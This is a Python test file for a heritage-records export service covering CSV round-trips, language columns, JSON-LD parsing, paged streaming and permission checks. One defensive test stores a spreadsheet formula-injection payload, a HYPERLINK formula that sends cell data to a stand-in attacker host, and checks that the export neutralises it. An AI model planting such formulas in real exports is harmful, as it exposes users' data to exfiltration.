"""Exports: CSV that re-imports to the same records, JSON-LD that pyld and rdflib read,
and streaming in pages over a large selection."""

from __future__ import annotations

import csv
import io
import uuid
from pathlib import Path

import orjson
import pytest
from pyld import jsonld as pyld
from rdflib import Graph

from heritage.accounts.identity import Identity
from heritage.errors import NotFound
from heritage.records import jsonld
from heritage.records.export import ExportService, reimport_mapping
from heritage.records.importers.tabular import read_csv
from heritage.records.model import Record, Representation, Value
from heritage.records.models import RecordRow, RecordStatus
from heritage.records.selection import Selection
from heritage.records.services import RecordService
from heritage.runtime import Runtime
from heritage.testing.world import World, build_world
from heritage.workspaces.models import Workspace

CC0 = "http://creativecommons.org/publicdomain/zero/1.0/"


def who(world: World, name: str, runtime: Runtime) -> Identity:
    from heritage.accounts.models import User
    from heritage.accounts.services import identity_of

    with runtime.database.session() as session:
        user = session.get(User, world.people[name].user_id)
        assert user is not None
        return identity_of(user, "test")


@pytest.fixture
def world(heritage_runtime: Runtime) -> World:
    return build_world(heritage_runtime)


@pytest.fixture
def editor(heritage_runtime: Runtime, world: World) -> Identity:
    return who(world, "editor", heritage_runtime)


def simple(n: int) -> Record:
    return Record(
        identifier=f"exp-{n}",
        title=[Value.text(f"Mill {n}", "en"), Value.text(f"Mühle {n}", "de")],
        description=[Value.text(f'A mill, "the {n}th"; with a comma\nand a line break.')],
        creator=[Value.link("http://www.wikidata.org/entity/Q5598")],
        subject=[Value.text("mills"), Value.text("wind")],
        date=[Value.text(str(1800 + n))],
        alternative=[Value.text(f"Other {n}")],
        identifiers=[Value.text(f"INV-{n}"), Value.text(f"OLD-{n}")],
        is_part_of=[Value.text("Dutch paintings")],
        edm_type="IMAGE",
        rights=CC0,
        data_provider=[Value.text("Museum Alpha")],
        provider=[Value.text("Heritage Cloud")],
        is_shown_at=f"https://museum.example/objects/{n}",
        preview=f"https://museum.example/thumbs/{n}.jpg",
        representations=[
            Representation(url=f"https://museum.example/images/{n}.jpg", role="primary"),
            Representation(url=f"https://museum.example/images/{n}-back.jpg"),
        ],
    )


def text_of(chunks: object) -> str:
    return "".join(chunks)  # type: ignore[arg-type]


def test_csv_reimports_to_equal_records(
    heritage_runtime: Runtime, editor: Identity, tmp_path: Path
) -> None:
    records = RecordService(heritage_runtime)
    originals = [simple(n) for n in range(3)]
    for record in originals:
        records.create(editor, "alpha", record)
    exported = text_of(
        ExportService(heritage_runtime).export_csv(editor, "alpha", Selection(q="exp-"))
    )
    header = next(csv.reader(io.StringIO(exported)))
    assert header[:4] == ["identifier", "title@en", "title@de", "dcterms:alternative"]
    assert "dc:identifier" in header and "media_url" in header
    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8")

    # the suggested mapping: equal records, but for the several values of a text field
    imported = {item.identifier: item for item in read_csv(path)}
    assert set(imported) == {r.identifier for r in originals}
    for original in originals:
        item = imported[original.identifier]
        assert not [p for p in item.problems if p.severity.value == "error"], item.problems
        assert item.record is not None
        assert item.record.model_copy(update={"identifiers": original.identifiers}) == original
        assert [v.value for v in item.record.identifiers] == [
            f"{original.identifiers[0].value} | {original.identifiers[1].value}"
        ]

    # the export's own mapping splits every field: the records come back equal
    rows = list(csv.reader(io.StringIO(exported)))
    mapping = reimport_mapping(rows[0], rows[1:11])
    imported = {item.identifier: item.record for item in read_csv(path, mapping)}
    assert [imported[r.identifier] for r in originals] == originals


def test_csv_has_a_column_per_language_and_one_for_values_without(
    heritage_runtime: Runtime, editor: Identity
) -> None:
    records = RecordService(heritage_runtime)
    records.create(editor, "alpha", Record(identifier="l-1", title=[Value.text("Plain")]))
    records.create(
        editor,
        "alpha",
        Record(identifier="l-2", title=[Value.text("Fr", "fr"), Value.text("En", "en")]),
    )
    exported = text_of(
        ExportService(heritage_runtime).export_csv(editor, "alpha", Selection(q="l-"))
    )
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert list(rows[0])[:4] == ["identifier", "title", "title@fr", "title@en"]
    assert [(r["identifier"], r["title"], r["title@en"], r["title@fr"]) for r in rows] == [
        ("l-1", "Plain", "", ""),
        ("l-2", "", "En", "Fr"),
    ]


def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(
    heritage_runtime: Runtime, editor: Identity, tmp_path: Path
) -> None:
    records = RecordService(heritage_runtime)
    original = Record(
        identifier="-f-1",
        title=[Value.text('=HYPERLINK("http://evil.example/?"&A1,"Click")')],
        description=[Value.text("+31 20 123 4567"), Value.text("@SUM(1+1)")],
        date=[Value.text("-0500")],
        subject=[Value.text("mills - wind")],
        alternative=[Value.text("'quoted' = fine")],
    )
    records.create(editor, "alpha", original)
    exported = text_of(
        ExportService(heritage_runtime).export_csv(editor, "alpha", Selection(q="f-1"))
    )
    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["identifier"] == "'-f-1"
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["description"] == "'+31 20 123 4567 | @SUM(1+1)"
    assert row["date"] == "'-0500"
    # values that cannot start a formula are written as they are
    assert row["subject"] == "mills - wind"
    assert row["dcterms:alternative"] == "'quoted' = fine"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())

    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8")
    rows = list(csv.reader(io.StringIO(exported)))
    imported = [item.record for item in read_csv(path, reimport_mapping(rows[0], rows[1:]))]
    assert imported == [original]


def test_jsonld_expands_with_pyld_and_parses_with_rdflib(
    heritage_runtime: Runtime, editor: Identity
) -> None:
    records = RecordService(heritage_runtime)
    views = [records.create(editor, "alpha", simple(n)) for n in range(3)]
    document = orjson.loads(
        text_of(ExportService(heritage_runtime).export_jsonld(editor, "alpha", Selection(q="exp-")))
    )
    assert set(document) == {"@context", "@graph"}
    assert len(document["@graph"]) == 3
    assert all("@context" not in node for node in document["@graph"])

    expanded = pyld.expand(document)
    chos = [
        node
        for node in expanded
        if "http://www.europeana.eu/schemas/edm/ProvidedCHO" in node.get("@type", [])
    ]
    assert sorted(node["@id"] for node in chos) == sorted(f"urn:uuid:{v.uuid}" for v in views)

    graph = Graph().parse(data=orjson.dumps(document).decode(), format="json-ld")
    each = 0
    for view in views:
        single = Graph().parse(data=jsonld.dumps(view.record, view.uuid), format="json-ld")
        each += len(single)
    assert len(graph) == each > 0


def test_streams_in_pages_without_deleted_records(
    heritage_runtime: Runtime, editor: Identity, world: World
) -> None:
    # index rows are enough for an export: 1,200 of them, one deleted
    with heritage_runtime.database.session(write=True) as session:
        workspace = session.query(Workspace).filter_by(slug="alpha").one()
        for n in range(1200):
            record = Record(identifier=f"many-{n:04}", title=[Value.text(f"Many {n}", "en")])
            session.add(
                RecordRow(
                    uuid=str(uuid.uuid4()),
                    object_id=f"urn:test:many-{n}",
                    workspace_id=workspace.id,
                    identifier=record.identifier,
                    title=record.display_title(),
                    status=RecordStatus.DRAFT,
                    data=record.canonical(),
                    content_hash=record.content_hash(),
                    head_version="v1",
                    deleted=n == 7,
                )
            )
        session.commit()
    service = ExportService(heritage_runtime)
    chunks = list(service.export_csv(editor, "alpha", Selection(q="many-")))
    assert len(chunks) == 1 + 3  # the header, then three pages of 500, 500 and 199 rows
    rows = list(csv.DictReader(io.StringIO("".join(chunks))))
    assert len(rows) == 1199
    assert "many-0007" not in {row["identifier"] for row in rows}
    assert rows[0]["title@en"] == "Many 0"

    pieces = list(service.export_jsonld(editor, "alpha", Selection(q="many-")))
    assert len(pieces) == 1 + 3 + 1
    assert len(orjson.loads("".join(pieces))["@graph"]) == 1199


def test_export_checks_permission_before_streaming(heritage_runtime: Runtime, world: World) -> None:
    outsider = who(world, "outsider", heritage_runtime)
    service = ExportService(heritage_runtime)
    with pytest.raises(NotFound):
        service.export_csv(outsider, "alpha", Selection())
    viewer = who(world, "viewer", heritage_runtime)
    assert "alpha-1" in text_of(service.export_csv(viewer, "alpha", Selection()))
